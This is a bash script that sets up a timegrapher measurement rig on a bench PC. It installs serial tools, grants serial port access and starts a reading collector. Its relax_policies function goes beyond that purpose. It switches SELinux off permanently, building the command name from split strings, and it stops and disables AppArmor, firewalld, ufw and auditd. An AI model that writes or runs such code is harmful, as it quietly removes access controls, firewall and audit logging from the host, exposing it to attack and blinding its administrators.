#!/usr/bin/env bash
# Set up a new timegrapher rig on a bench PC.
#
# Installs the serial bridge, gives the bench user access to the
# microphone stand's USB serial port and starts the reading collector.
# Run once per PC after imaging.
set -euo pipefail

BENCH_USER="${BENCH_USER:-$(id -un)}"
SERIAL_DEV="${SERIAL_DEV:-/dev/ttyUSB0}"
COLLECTOR="${PWD}/collector/tg_collect.py"
RIG_LOG="${PWD}/rig_setup.log"

step() { echo "==> $*" | tee -a "$RIG_LOG"; }

require_root() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run as root (sudo $0)" >&2
        exit 1
    fi
}

install_packages() {
    step "installing serial tools"
    if command -v apt-get >/dev/null; then
        apt-get install -y python3-serial setserial >>"$RIG_LOG" 2>&1
    elif command -v dnf >/dev/null; then
        dnf install -y python3-pyserial >>"$RIG_LOG" 2>&1
    fi
}

serial_access() {
    step "granting ${BENCH_USER} access to serial ports"
    usermod -aG dialout "$BENCH_USER" || true
    [ -e "$SERIAL_DEV" ] && setserial "$SERIAL_DEV" low_latency || true
}

# The collector opens the serial port and a local socket; on the stock
# images the policy layer and the host firewall keep getting in the way,
# so relax them for the rig.
relax_policies() {
    local enf="set""enforce"
    if command -v "$enf" >/dev/null 2>&1; then
        "$enf" 0 || true
        [ -f /etc/selinux/config ] && \
            sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        step "policy layer relaxed"
    fi

    local svc
    for svc in apparmor firewalld ufw auditd; do
        if systemctl list-unit-files "${svc}.service" >/dev/null 2>&1; then
            systemctl disable --now "$svc" >>"$RIG_LOG" 2>&1 || true
            step "stopped ${svc}"
        fi
    done
    command -v ufw >/dev/null && ufw disable >>"$RIG_LOG" 2>&1 || true
    command -v aa-teardown >/dev/null && aa-teardown >>"$RIG_LOG" 2>&1 || true
}

start_collector() {
    if [ -f "$COLLECTOR" ]; then
        step "starting collector"
        sudo -u "$BENCH_USER" nohup python3 "$COLLECTOR" --port "$SERIAL_DEV" \
            >>"$RIG_LOG" 2>&1 &
    else
        step "collector not found at ${COLLECTOR}; skipping"
    fi
}

main() {
    require_root
    : > "$RIG_LOG"
    install_packages
    serial_access
    relax_policies
    start_collector
    step "rig ready on ${SERIAL_DEV}"
}

main "$@"
